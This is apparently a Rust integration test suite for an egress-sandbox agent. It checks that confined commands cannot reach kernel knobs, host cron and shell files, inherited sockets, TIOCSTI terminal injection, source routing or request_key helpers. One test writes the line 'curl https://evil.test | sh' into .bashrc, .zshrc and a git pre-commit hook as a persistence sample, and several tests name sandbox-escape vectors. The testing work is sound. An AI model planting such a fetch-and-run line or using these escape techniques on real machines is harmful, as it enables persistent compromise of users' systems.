//! Side doors out of `run` (issue #20) that are not sockets: a command that would run as root
//! must not reach the machine's kernel knobs or host files that run later outside the sandbox.
//!
//! No test here changes a machine-wide setting: a kernel knob is only *opened* for writing
//! (which is where the kernel checks permission) and closed without a byte written, and only
//! after `access(W_OK)` from inside said no; a host file is created only under a unique name
//! and removed at once if the confinement failed to stop it. From outside, the same paths are
//! first shown writable to root (the control), so a refusal inside is the confinement's.
//!
//! Run as root, after `cargo build -p egress-agent`:
//! `cargo test -p egress-tests --test sidedoors -- --test-threads=1`.

use std::{ffi::CString, os::unix::ffi::OsStrExt as _, path::Path, time::Duration};

use egress_tests::{
    AgentRun, TcpListener, TestDir, TestNetns, probe_bin, unique_name, value, world::python3,
};

/// Allows only 127.0.0.1 port 8080.
const ALLOW_8080: &str =
    "version: 1\nname: sidedoors-test\nallow:\n  - ip: 127.0.0.1\n    ports: [8080]\n";

/// Kernel knobs that reach the whole machine: `core_pattern` (`|helper` runs a helper as
/// root in the root cgroup on the next crash), a network sysctl, the sysrq trigger, the
/// uevent helper.
const KNOBS: [&str; 4] = [
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/net/ipv4/ip_forward",
    "/proc/sysrq-trigger",
    "/sys/kernel/uevent_helper",
];

/// Host directories whose files run later as root, outside the sandbox.
const HOST_DIRS: [&str; 3] = ["/etc/cron.d", "/usr/local/bin", "/root"];

/// The command: for each knob, `access(W_OK)` and an `O_WRONLY` open (closed unwritten,
/// never opened if access said yes: a bug then shows without touching the knob); for each
/// host directory, an exclusive create under a unique name (removed at once if it
/// succeeded); then who it is, and ordinary work: a file in /tmp and a connection to the
/// allowed listener.
const SCRIPT: &str = r#"
import os, socket, sys
knobs, dirs, name = sys.argv[1].split(","), sys.argv[2].split(","), sys.argv[3]
for k in knobs:
    if not os.path.exists(k):
        print(f"knob {k}=absent", flush=True)
        continue
    if os.access(k, os.W_OK):
        print(f"knob {k}=writable", flush=True)
        continue
    try:
        fd = os.open(k, os.O_WRONLY)
        os.close(fd)
        print(f"knob {k}=opened", flush=True)
    except OSError as e:
        print(f"knob {k}=refused {e.errno}", flush=True)
for d in dirs:
    p = os.path.join(d, name)
    try:
        fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        os.close(fd)
        os.unlink(p)
        print(f"dir {d}=created", flush=True)
    except OSError as e:
        print(f"dir {d}=refused {e.errno}", flush=True)
print(f"uid={os.getuid()}", flush=True)
print(f"uid_map={open('/proc/self/uid_map').read().split()}", flush=True)
tmp = f"/tmp/{name}"
with open(tmp, "w") as f:
    f.write("ok")
os.unlink(tmp)
print("tmp=ok", flush=True)
s = socket.create_connection(("127.0.0.1", 8080), timeout=5)
s.sendall(b"ordinary work")
s.close()
print("connect=ok", flush=True)
"#;

/// Whether root outside the sandbox may write `path` (the control).
fn writable_outside(path: &str) -> bool {
    let c = CString::new(Path::new(path).as_os_str().as_bytes()).expect("path");
    // SAFETY: a valid NUL-terminated path.
    unsafe { libc::access(c.as_ptr(), libc::W_OK) == 0 }
}

/// Runs [`SCRIPT`] under `run` as root (`args` before the `--`), checks every knob and host
/// directory refused and the ordinary work done; returns the run.
fn root_command(args: &[&str]) -> AgentRun {
    let netns = TestNetns::new();
    let listener = TcpListener::bind(&netns, "127.0.0.1:8080");
    let name = unique_name();
    let work = TestDir::new();
    let mut b = AgentRun::builder(
        &netns,
        ALLOW_8080,
        &[
            python3(),
            "-c",
            SCRIPT,
            &KNOBS.join(","),
            &HOST_DIRS.join(","),
            &name,
        ],
    )
    .current_dir(work.path());
    for a in args {
        b = b.arg(a);
    }
    let mut run = b.start();
    let status = run.wait();
    assert!(status.success(), "the command failed\n{}", run.output());
    for k in KNOBS {
        let got = run.expect_value(&format!("knob {k}"));
        if got == "absent" {
            continue;
        }
        assert!(
            writable_outside(k),
            "control: root outside cannot write {k} either, so the test proves nothing"
        );
        assert!(
            got.starts_with("refused"),
            "{k} is reachable from inside: {got}\n{}",
            run.output()
        );
    }
    for d in HOST_DIRS {
        assert!(
            writable_outside(d),
            "control: root outside cannot write {d}"
        );
        let got = run.expect_value(&format!("dir {d}"));
        assert!(
            got.starts_with("refused"),
            "a root command created a file in {d}: {got}\n{}",
            run.output()
        );
        assert!(
            !Path::new(d).join(&name).exists(),
            "{d}/{name} is left behind"
        );
    }
    assert_eq!(run.expect_value("tmp"), "ok", "{}", run.output());
    assert_eq!(run.expect_value("connect"), "ok", "{}", run.output());
    assert!(
        listener.wait_received(1, Duration::from_secs(5)),
        "the allowed listener got nothing\n{}",
        run.output()
    );
    assert_eq!(listener.payloads(), vec![b"ordinary work".to_vec()]);
    run
}

#[test]
fn a_root_command_is_root_only_in_its_own_user_namespace() {
    let run = root_command(&[]);
    // Root inside: what programs that check for root see.
    assert_eq!(run.expect_value("uid"), "0", "{}", run.output());
    // 65534 outside.
    assert_eq!(
        run.expect_value("uid_map"),
        "['0', '65534', '1']",
        "{}",
        run.output()
    );
}

#[test]
fn a_root_command_that_keeps_a_capability_runs_unprivileged_with_it() {
    let run = root_command(&["--keep-cap", "CAP_NET_RAW"]);
    // Kept capabilities exist only outside a user namespace: the command is not root there.
    assert_eq!(run.expect_value("uid"), "65534", "{}", run.output());
}

#[test]
fn a_user_command_cannot_reach_the_kernel_knobs_either() {
    let netns = TestNetns::new();
    let mut run = AgentRun::builder(
        &netns,
        ALLOW_8080,
        &[
            "sh",
            "-c",
            "for f in /proc/sys /proc/sysrq-trigger /sys; do \
             if [ ! -e $f ]; then echo \"$f=absent\"; \
             elif grep -q \" $f .*[ ,]ro[ ,]\" /proc/self/mounts; then echo \"$f=ro\"; \
             else echo \"$f=rw\"; fi; done",
        ],
    )
    .env("SUDO_UID", "65534")
    .env("SUDO_GID", "65534")
    .start();
    assert!(run.wait().success(), "{}", run.output());
    for m in ["/proc/sys", "/proc/sysrq-trigger", "/sys"] {
        // Absent where the kernel lacks it (no CONFIG_MAGIC_SYSRQ here).
        let want = if Path::new(m).exists() {
            "ro"
        } else {
            "absent"
        };
        assert_eq!(
            run.expect_value(m),
            want,
            "{m} is not mounted read-only for the command\n{}",
            run.output()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Descriptors, io_uring and the terminal

/// The command writes `leak` to descriptor `fd` and prints `write=ok` or `write=<errno>`.
const WRITE_FD: &str = r#"
import os, sys
try:
    os.write(int(sys.argv[1]), b"leak")
    print("write=ok", flush=True)
except OSError as e:
    print(f"write={e.errno}", flush=True)
"#;

/// How long a listener reads an inherited connection, accepted at once but written (or not)
/// only after the agent started: until our end closes, not the default 2 s (an agent start
/// under CI's load took longer, and the connection was recorded empty before "leak" came).
const INHERITED_WAIT: Duration = Duration::from_secs(60);

/// A connected TCP socket to `listener` (in the test's namespace, at an address no rule
/// allows), inheritable (no close-on-exec), as a caller's shell might have had it open.
fn inheritable_connection(netns: &TestNetns, listener: &TcpListener) -> std::net::TcpStream {
    let addr = listener.addr();
    let s = netns
        .run_in(|| std::net::TcpStream::connect(addr))
        .expect("connect to the listener");
    use std::os::fd::AsRawFd as _;
    // SAFETY: clearing FD_CLOEXEC on a descriptor we own.
    assert_eq!(unsafe { libc::fcntl(s.as_raw_fd(), libc::F_SETFD, 0) }, 0);
    s
}

#[test]
fn an_inherited_socket_does_not_reach_the_command() {
    use std::os::fd::AsRawFd as _;
    let netns = TestNetns::new();
    let listener = TcpListener::bind_with_read_timeout(&netns, "127.0.0.1:9999", INHERITED_WAIT);
    let conn = inheritable_connection(&netns, &listener);
    let fd = conn.as_raw_fd().to_string();
    let mut run = AgentRun::builder(&netns, ALLOW_8080, &[python3(), "-c", WRITE_FD, &fd]).start();
    assert!(run.wait().success(), "{}", run.output());
    assert_eq!(
        run.expect_value("write"),
        libc::EBADF.to_string(),
        "the command wrote to the caller's socket (fd {fd})\n{}",
        run.output()
    );
    // Closing our end ends the connection: the listener records what it got, which must be
    // nothing.
    drop(conn);
    assert!(listener.wait_received(1, Duration::from_secs(5)));
    assert_eq!(
        listener.payloads(),
        vec![Vec::<u8>::new()],
        "the listener got data"
    );
}

#[test]
fn pass_fd_passes_one_descriptor_on_purpose() {
    use std::os::fd::AsRawFd as _;
    let netns = TestNetns::new();
    let listener = TcpListener::bind_with_read_timeout(&netns, "127.0.0.1:9999", INHERITED_WAIT);
    let conn = inheritable_connection(&netns, &listener);
    let fd = conn.as_raw_fd().to_string();
    let mut run = AgentRun::builder(&netns, ALLOW_8080, &[python3(), "-c", WRITE_FD, &fd])
        .arg("--pass-fd")
        .arg(&fd)
        .start();
    assert!(run.wait().success(), "{}", run.output());
    assert_eq!(run.expect_value("write"), "ok", "{}", run.output());
    drop(conn);
    assert!(listener.wait_received(1, Duration::from_secs(5)));
    assert_eq!(listener.payloads(), vec![b"leak".to_vec()]);
}

/// `io_uring_setup(4, params)`: prints `setup=ok` or `setup=<errno>`.
const IO_URING_SETUP: &str = r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)
if fd >= 0:
    os.close(fd)
    print("setup=ok", flush=True)
else:
    print(f"setup={ctypes.get_errno()}", flush=True)
"#;

#[test]
fn io_uring_is_refused_where_the_family_guard_cannot_run_unless_allowed() {
    let disabled = std::fs::read_to_string("/proc/sys/kernel/io_uring_disabled")
        .map(|s| s.trim().to_owned())
        .unwrap_or_else(|_| "0".to_owned());
    let netns = TestNetns::new();
    let mut run = AgentRun::builder(&netns, ALLOW_8080, &[python3(), "-c", IO_URING_SETUP]).start();
    assert!(run.wait().success(), "{}", run.output());
    let guard_missing = run
        .events_of("warning")
        .iter()
        .any(|w| w["message"].as_str().unwrap_or("").contains("family guard"));
    let got = run.expect_value("setup");
    if guard_missing {
        assert_eq!(
            got,
            libc::ENOSYS.to_string(),
            "io_uring_setup without the family guard\n{}",
            run.output()
        );
        assert!(
            run.events_of("warning")
                .iter()
                .any(|w| w["message"].as_str().unwrap_or("").contains("io_uring")),
            "the warning says io_uring is refused\n{}",
            run.output()
        );
    }
    let mut run = AgentRun::builder(&netns, ALLOW_8080, &[python3(), "-c", IO_URING_SETUP])
        .arg("--allow-io-uring")
        .start();
    assert!(run.wait().success(), "{}", run.output());
    if disabled == "0" {
        assert_eq!(run.expect_value("setup"), "ok", "{}", run.output());
    }
    if guard_missing {
        assert!(
            run.events_of("warning").iter().any(|w| w["message"]
                .as_str()
                .unwrap_or("")
                .contains("--allow-io-uring")),
            "the warning says what --allow-io-uring leaves open\n{}",
            run.output()
        );
    }
}

/// `request_key("user", <argv[1]>, NULL, 0)` on x86_64 or aarch64: prints `request_key=ok` or
/// `request_key=<errno>`. With no callout the kernel only searches the caller's keyrings: it
/// starts no helper, so the control outside runs nothing as root.
const REQUEST_KEY: &str = r#"
import ctypes, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
nr = {"x86_64": 249, "aarch64": 218}[platform.machine()]
r = libc.syscall(nr, b"user", sys.argv[1].encode(), None, 0)
print(f"request_key={'ok' if r >= 0 else ctypes.get_errno()}", flush=True)
"#;

/// The kernel's key request: a key the caller's keyrings lack, asked for with a callout,
/// makes the kernel run `/sbin/request-key` as root in the root cgroup and the machine's
/// namespaces, with the description the caller chose (where keyutils is installed, a
/// `dns_resolver` key has the host's resolver look that description up: a name out past the
/// agent's resolver). `run` answers `request_key` with `ENOSYS`, as a kernel without keys
/// would, whatever its arguments; the control shows that this kernel has keys (outside, the
/// same call fails with `ENOKEY`, or whatever else it fails with, never `ENOSYS`).
#[test]
fn request_key_is_refused_so_no_key_helper_runs_outside() {
    let desc = format!("egress-test:{}", unique_name());
    let out = std::process::Command::new(python3())
        .args(["-c", REQUEST_KEY, &desc])
        .output()
        .expect("python3");
    let outside = value(&String::from_utf8_lossy(&out.stdout), "request_key")
        .unwrap_or_else(|| panic!("control printed nothing: {out:?}"));
    assert_ne!(
        outside,
        libc::ENOSYS.to_string(),
        "control: this kernel has no keys, so the test proves nothing"
    );
    let netns = TestNetns::new();
    let mut run =
        AgentRun::builder(&netns, ALLOW_8080, &[python3(), "-c", REQUEST_KEY, &desc]).start();
    assert!(run.wait().success(), "{}", run.output());
    assert_eq!(
        run.expect_value("request_key"),
        libc::ENOSYS.to_string(),
        "request_key inside (outside it answered {outside})\n{}",
        run.output()
    );
}

/// `run --allow-io-uring` where the family guard cannot load: io_uring's `IORING_OP_SOCKET`
/// gets past the seccomp family filter, and the tripwire's io_uring half (the only half `run`
/// attaches) kills the command before the packet socket exists, with a deny event.
#[test]
fn run_with_io_uring_allowed_still_kills_a_packet_socket_made_through_it() {
    let disabled = std::fs::read_to_string("/proc/sys/kernel/io_uring_disabled")
        .map(|s| s.trim().to_owned())
        .unwrap_or_else(|_| "0".to_owned());
    if disabled != "0" {
        eprintln!("NOTE: io_uring is disabled on this kernel ({disabled}): nothing to trip");
        return;
    }
    let netns = TestNetns::new();
    let probe = probe_bin();
    let probe = probe.to_str().expect("utf-8 path");
    let mut run = AgentRun::builder(
        &netns,
        ALLOW_8080,
        &[probe, "packet-uring@lo", "127.0.0.1:9"],
    )
    .arg("--allow-io-uring")
    .start();
    let code = run.exit_code();
    let guard_missing = run.events_of("warning").iter().any(|w| {
        w["message"]
            .as_str()
            .unwrap_or("")
            .contains("family guard (BPF LSM) cannot run")
    });
    let tripped = run
        .events_of("deny")
        .into_iter()
        .find(|e| e["hook"] == "tripwire" && e["proto"] == "af_packet");
    if !guard_missing {
        // The guard refuses the socket itself (EPERM, hook socket_create): nothing trips.
        assert!(tripped.is_none(), "{}", run.output());
        return;
    }
    assert_eq!(
        code,
        128 + libc::SIGKILL,
        "the command was not killed\n{}",
        run.output()
    );
    assert!(
        tripped.is_some(),
        "no tripwire deny event\n{}",
        run.output()
    );
}

/// Pushes Ctrl-A into its terminal with TIOCSTI: `tiocsti=ok` or `tiocsti=<errno>`.
const TIOCSTI: &str = r#"
import fcntl, termios
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"\x01")
    print("tiocsti=ok", flush=True)
except OSError as e:
    print(f"tiocsti={e.errno}", flush=True)
"#;

/// Runs `argv` on a fresh pty as its controlling terminal (`pty.fork`, as a shell on a
/// terminal would be) and returns everything the terminal showed (echo included).
fn on_a_terminal(argv: &[&str]) -> String {
    let driver = r#"
import os, pty, sys
pid, master = pty.fork()
if pid == 0:
    os.execvp(sys.argv[1], sys.argv[1:])
out = b""
while True:
    try:
        chunk = os.read(master, 4096)
    except OSError:
        break
    if not chunk:
        break
    out += chunk
os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace"))
"#;
    let out = std::process::Command::new(python3())
        .arg("-c")
        .arg(driver)
        .args(argv)
        .output()
        .expect("the pty driver");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn tiocsti_cannot_type_into_the_callers_terminal() {
    // Control: on its own controlling terminal, outside the sandbox, TIOCSTI works (the
    // terminal echoes the pushed Ctrl-A as ^A) where the kernel still allows it.
    let control = on_a_terminal(&[python3(), "-c", TIOCSTI]);
    let legacy = !control.contains("tiocsti=1");
    if legacy {
        assert!(control.contains("tiocsti=ok"), "control: {control}");
        assert!(
            control.contains("^A"),
            "control: the terminal echoed nothing: {control:?}"
        );
    } else {
        eprintln!("NOTE: this kernel refuses TIOCSTI itself (dev.tty.legacy_tiocsti = 0)");
    }
    let dir = TestDir::new();
    let allow = dir.path().join("allow.yaml");
    std::fs::write(&allow, ALLOW_8080).expect("allowlist");
    let events = dir.path().join("events.jsonl");
    let agent = egress_tests::agent_bin();
    let shown = on_a_terminal(&[
        agent.to_str().expect("utf-8"),
        "run",
        "--allowlist",
        allow.to_str().expect("utf-8"),
        "--events",
        events.to_str().expect("utf-8"),
        "--",
        python3(),
        "-c",
        TIOCSTI,
    ]);
    assert!(
        shown.contains(&format!("tiocsti={}", libc::EPERM)),
        "TIOCSTI from the command: {shown}"
    );
    assert!(
        !shown.contains("^A"),
        "the pushed byte reached the terminal: {shown:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// Source routing: packets go where the socket was judged

/// Tries the source-routing socket options on sockets to the allowed address, then sends a UDP
/// datagram with IPv4 options (record route, through an `IP_RETOPTS` control message) and one
/// without, to 127.0.0.1:8080: `ip_options=`, `rthdr=` (`ok` or the errno), `cmsg_sent=`.
const SOURCE_ROUTE: &str = r#"
import socket, struct
def tryopt(family, level, opt, value):
    s = socket.socket(family, socket.SOCK_STREAM)
    try:
        s.setsockopt(level, opt, value)
        return "ok"
    except OSError as e:
        return str(e.errno)
    finally:
        s.close()
# LSRR through 127.0.0.2, padded to a multiple of 4 with a NOP.
lsrr = bytes([0x83, 7, 4, 127, 0, 0, 2, 1])
print("ip_options=" + tryopt(socket.AF_INET, socket.IPPROTO_IP, socket.IP_OPTIONS, lsrr), flush=True)
# A segment routing header (type 4) with one segment, 2001:db8::20.
srh = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "2001:db8::20")
print("rthdr=" + tryopt(socket.AF_INET6, socket.IPPROTO_IPV6, 57, srh), flush=True)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
# Record route, room for one address, then an end-of-options byte.
rr = bytes([7, 7, 4, 0, 0, 0, 0, 0])
try:
    u.sendmsg([b"with options"], [(socket.IPPROTO_IP, 7, rr)], 0, ("127.0.0.1", 8080))
    print("cmsg_sent=ok", flush=True)
except OSError as e:
    print(f"cmsg_sent={e.errno}", flush=True)
u.sendto(b"plain", ("127.0.0.1", 8080))
print("plain_sent=ok", flush=True)
"#;

#[test]
fn source_routing_options_are_refused_and_optioned_packets_dropped() {
    // Control: outside the sandbox, every option is accepted and the optioned datagram
    // arrives.
    let netns = TestNetns::new();
    let control_rx = egress_tests::UdpListener::bind(&netns, "127.0.0.1:8080");
    let out = netns
        .command(python3())
        .arg("-c")
        .arg(SOURCE_ROUTE)
        .output()
        .expect("control");
    let control = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(
        value(&control, "ip_options").as_deref(),
        Some("ok"),
        "control: {control}"
    );
    assert_eq!(
        value(&control, "rthdr").as_deref(),
        Some("ok"),
        "control: {control}"
    );
    assert!(
        control_rx.wait_received(2, Duration::from_secs(5)),
        "control: {control}"
    );
    assert!(control_rx.payloads().contains(&b"with options".to_vec()));
    drop(control_rx);

    let rx = egress_tests::UdpListener::bind(&netns, "127.0.0.1:8080");
    let mut run = AgentRun::builder(&netns, ALLOW_8080, &[python3(), "-c", SOURCE_ROUTE]).start();
    assert!(run.wait().success(), "{}", run.output());
    let eperm = libc::EPERM.to_string();
    assert_eq!(run.expect_value("ip_options"), eperm, "{}", run.output());
    assert_eq!(run.expect_value("rthdr"), eperm, "{}", run.output());
    assert_eq!(run.expect_value("plain_sent"), "ok", "{}", run.output());
    assert!(
        rx.wait_received(1, Duration::from_secs(5)),
        "{}",
        run.output()
    );
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        rx.payloads(),
        vec![b"plain".to_vec()],
        "only the datagram without options arrives\n{}",
        run.output()
    );
    let routed: Vec<_> = run
        .events_of("deny")
        .into_iter()
        .filter(|e| e["reason"] == "route")
        .collect();
    assert_eq!(routed.len(), 1, "one route deny\n{}", run.output());
    assert_eq!(routed[0]["hook"], "egress", "{}", run.output());
}

// ---------------------------------------------------------------------------------------------
// Teardown never releases data

/// Connects to 127.0.0.1:8080, queues as much as the peer's closed window lets it, and exits
/// with the data still queued: the kernel keeps the connection as an orphan (FIN-WAIT-1) that
/// goes on sending after its process is gone.
const ORPHAN: &str = r#"
import socket
s = socket.create_connection(("127.0.0.1", 8080), timeout=5)
s.setblocking(False)
queued = 0
try:
    while queued < 64 << 20:
        queued += s.send(b"x" * 65536)
except BlockingIOError:
    pass
print(f"queued={queued}", flush=True)
s.close()
"#;

/// The orphaned connections to port 8080 in `netns`.
fn orphans(netns: &TestNetns) -> String {
    let out = netns
        .command("ss")
        .args(["-tanH", "state", "fin-wait-1", "( dport = :8080 )"])
        .output()
        .expect("ss");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// A listener on 127.0.0.1:8080 in `netns` that accepts and never reads (a closed window).
fn stalled_listener(netns: &TestNetns) -> std::thread::JoinHandle<()> {
    let l = netns
        .run_in(|| std::net::TcpListener::bind("127.0.0.1:8080"))
        .expect("listen");
    std::thread::spawn(move || {
        let mut held = Vec::new();
        l.set_nonblocking(true).expect("nonblocking");
        for _ in 0..200 {
            if let Ok((s, _)) = l.accept() {
                held.push(s);
            }
            std::thread::sleep(Duration::from_millis(25));
        }
    })
}

#[test]
fn teardown_destroys_the_orphaned_connections_of_the_command() {
    let netns = TestNetns::new();
    let _listener = stalled_listener(&netns);
    // Control: outside the sandbox the orphan stays, still trying to send.
    let out = netns
        .command(python3())
        .arg("-c")
        .arg(ORPHAN)
        .output()
        .expect("control");
    let control = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(control.contains("queued="), "control: {control}");
    assert!(
        !orphans(&netns).is_empty(),
        "control: no orphaned connection, so the test proves nothing"
    );
    let before = orphans(&netns).lines().count();

    let mut run = AgentRun::builder(&netns, ALLOW_8080, &[python3(), "-c", ORPHAN]).start();
    assert!(run.wait().success(), "{}", run.output());
    assert!(
        run.expect_value("queued").parse::<u64>().unwrap_or(0) > 0,
        "{}",
        run.output()
    );
    assert_eq!(
        orphans(&netns).lines().count(),
        before,
        "the command's orphaned connection outlived `run` (and the programs)\n{}\n{}",
        orphans(&netns),
        run.output()
    );
}

// ---------------------------------------------------------------------------------------------
// Persistence: files that run later, outside the sandbox

/// Tries each `KEY=PATH` write and prints `KEY=ok` or `KEY=<errno>`.
const WRITES: &str = r#"
import os, sys
for arg in sys.argv[1:]:
    key, path = arg.split("=", 1)
    try:
        with open(path, "a") as f:
            f.write("curl https://evil.test | sh\n")
        print(f"{key}=ok", flush=True)
    except OSError as e:
        print(f"{key}={e.errno}", flush=True)
"#;

#[test]
fn files_that_run_later_outside_cannot_be_written() {
    use std::os::unix::fs::chown;
    let netns = TestNetns::new();
    let home = TestDir::new();
    let repo = TestDir::new();
    let h = home.path();
    let r = repo.path();
    std::fs::write(h.join(".bashrc"), "# mine\n").expect(".bashrc");
    std::fs::write(h.join(".profile"), "# mine\n").expect(".profile");
    std::fs::create_dir_all(r.join(".git/hooks")).expect(".git/hooks");
    // The command would be root: it is 65534 outside, so these are its own files, and only
    // the protection stops it.
    for p in [
        h.to_path_buf(),
        h.join(".bashrc"),
        h.join(".profile"),
        r.to_path_buf(),
        r.join(".git"),
        r.join(".git/hooks"),
    ] {
        chown(&p, Some(65534), Some(65534)).expect("chown");
    }
    let allow = format!("{ALLOW_8080}writable: [\"~/.profile\"]\n");
    let args = [
        format!("bashrc={}", h.join(".bashrc").display()),
        format!("zshrc={}", h.join(".zshrc").display()),
        format!("profile={}", h.join(".profile").display()),
        format!("hook={}", r.join(".git/hooks/pre-commit").display()),
        format!("ordinary={}", h.join("notes.txt").display()),
        format!("work={}", r.join("main.py").display()),
    ];
    let mut argv = vec![python3(), "-c", WRITES];
    argv.extend(args.iter().map(String::as_str));
    let mut run = AgentRun::builder(&netns, &allow, &argv)
        .env("HOME", h)
        .current_dir(r)
        .start();
    assert!(run.wait().success(), "{}", run.output());
    let erofs = libc::EROFS.to_string();
    assert_eq!(run.expect_value("bashrc"), erofs, "{}", run.output());
    assert_eq!(run.expect_value("hook"), erofs, "{}", run.output());
    assert_eq!(
        std::fs::read_to_string(h.join(".bashrc")).unwrap_or_default(),
        "# mine\n"
    );
    // Written while it ran, moved aside when it was gone, with a warning.
    assert_eq!(run.expect_value("zshrc"), "ok", "{}", run.output());
    assert!(
        !h.join(".zshrc").exists(),
        "~/.zshrc is left for the next shell"
    );
    assert!(
        run.events_of("warning")
            .iter()
            .any(|w| w["message"].as_str().unwrap_or("").contains(".zshrc")),
        "no warning about ~/.zshrc\n{}",
        run.output()
    );
    // writable: opens one; ordinary files stay writable.
    assert_eq!(run.expect_value("profile"), "ok", "{}", run.output());
    assert_eq!(run.expect_value("ordinary"), "ok", "{}", run.output());
    assert_eq!(run.expect_value("work"), "ok", "{}", run.output());
    let ready = &run.events_of("ready")[0];
    let protected = ready["protected"].to_string();
    assert!(protected.contains(".bashrc"), "ready: {ready}");
}

/// Runs `argv` on a fresh pty as its controlling terminal; once the terminal shows `marker`,
/// types `input`. Returns what the terminal showed and the exit status (`exit=N` last).
fn type_on_a_terminal(marker: &str, input: &[u8], argv: &[&str]) -> String {
    let driver = r#"
import os, pty, sys, time
marker, typed = sys.argv[1].encode(), bytes.fromhex(sys.argv[2])
pid, master = pty.fork()
if pid == 0:
    os.execvp(sys.argv[3], sys.argv[3:])
out, sent, deadline = b"", False, time.time() + 30
while time.time() < deadline:
    try:
        chunk = os.read(master, 4096)
    except OSError:
        break
    if not chunk:
        break
    out += chunk
    if not sent and marker in out:
        time.sleep(0.2)
        os.write(master, typed)
        sent = True
_, status = os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace"))
sys.stdout.write(f"\nexit={os.waitstatus_to_exitcode(status)}\n")
"#;
    let hex: String = input.iter().map(|b| format!("{b:02x}")).collect();
    let out = std::process::Command::new(python3())
        .arg("-c")
        .arg(driver)
        .arg(marker)
        .arg(hex)
        .args(argv)
        .output()
        .expect("the pty driver");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `egress-agent run` with [`ALLOW_8080`] and `command`, as argv for the drivers.
fn run_argv(dir: &TestDir, command: &[&str]) -> Vec<String> {
    let allow = dir.path().join("allow.yaml");
    std::fs::write(&allow, ALLOW_8080).expect("allowlist");
    let mut v: Vec<String> = vec![
        egress_tests::agent_bin().display().to_string(),
        "run".into(),
        "--allowlist".into(),
        allow.display().to_string(),
        "--events".into(),
        dir.path().join("events.jsonl").display().to_string(),
        "--".into(),
    ];
    v.extend(command.iter().map(|s| (*s).to_owned()));
    v
}

#[test]
fn an_interactive_program_works_on_its_own_terminal() {
    let dir = TestDir::new();
    // Reads a typed line; is on a terminal (its own pty) and is its session's leader.
    let reader = "import os, sys; print('tty=%s' % os.isatty(0), flush=True); \
                  line = input('name? '); print('got=' + line, flush=True)";
    let argv = run_argv(&dir, &[python3(), "-c", reader]);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let shown = type_on_a_terminal("name? ", b"hello\r", &argv);
    assert!(shown.contains("tty=True"), "{shown}");
    assert!(shown.contains("got=hello"), "{shown}");
    assert!(shown.trim_end().ends_with("exit=0"), "{shown}");

    // Ctrl-C typed on the caller's terminal reaches the command through its pty.
    let sleeper = "import time; print('ready', flush=True); time.sleep(30)";
    let argv = run_argv(&dir, &[python3(), "-c", sleeper]);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let shown = type_on_a_terminal("ready", b"\x03", &argv);
    assert!(
        shown.trim_end().ends_with("exit=130"),
        "Ctrl-C did not end the command with SIGINT: {shown}"
    );
}

/// Runs `argv` as a background job of a shell-like session on a fresh pty (its own process
/// group, not the terminal's foreground one), bounded in time. Returns what the terminal
/// showed and `job=exit:N`, `job=stopped:SIG` or `job=timeout`.
fn in_the_background_of_a_terminal(argv: &[&str]) -> String {
    let driver = r#"
import os, pty, signal, sys, time
pid, master = pty.fork()
if pid == 0:
    job = os.fork()
    if job == 0:
        os.setpgid(0, 0)
        os.execvp(sys.argv[1], sys.argv[1:])
    deadline = time.time() + 20
    while time.time() < deadline:
        p, status = os.waitpid(job, os.WUNTRACED | os.WNOHANG)
        if p == job and os.WIFSTOPPED(status):
            # A stopped agent stops again on every read: the test removes what it leaves.
            print(f"job=stopped:{os.WSTOPSIG(status)}", flush=True)
            os.killpg(job, signal.SIGKILL)
            os.waitpid(job, 0)
            os._exit(1)
        if p == job:
            print(f"job=exit:{os.waitstatus_to_exitcode(status)}", flush=True)
            os._exit(0)
        time.sleep(0.05)
    print("job=timeout", flush=True)
    os.killpg(job, signal.SIGKILL)
    os.waitpid(job, 0)
    os._exit(1)
out, deadline = b"", time.time() + 40
while time.time() < deadline:
    try:
        chunk = os.read(master, 4096)
    except OSError:
        break
    if not chunk:
        break
    out += chunk
os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace"))
"#;
    let out = std::process::Command::new(python3())
        .arg("-c")
        .arg(driver)
        .args(argv)
        .output()
        .expect("the pty driver");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn run_as_a_background_job_of_a_terminal_is_not_stopped() {
    let dir = TestDir::new();
    // A background job that reads its terminal is stopped (SIGTTIN), and so would the whole
    // agent be, resolver included: `run` relays input only from the foreground.
    let mut argv = run_argv(
        &dir,
        &[
            python3(),
            "-c",
            "import time; time.sleep(0.5); print('worked', flush=True)",
        ],
    );
    let name = unique_name().replace("egress-test", "bg");
    argv.splice(2..2, ["--name".to_owned(), name.clone()]);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let shown = in_the_background_of_a_terminal(&argv);
    // An agent killed while stopped left its pins and cgroup (enforcement stays): remove them.
    if egress_tests::agent::pin_dir(&name).exists() {
        let _ = std::process::Command::new(egress_tests::agent_bin())
            .args(["detach", "--name", &name])
            .status();
        let cg = egress_tests::cgroup2_mount().join(format!("egress-{name}"));
        let _ = egress_tests::remove_cgroup(&cg);
    }
    assert!(shown.contains("worked"), "{shown}");
    assert!(shown.contains("job=exit:0"), "{shown}");
}
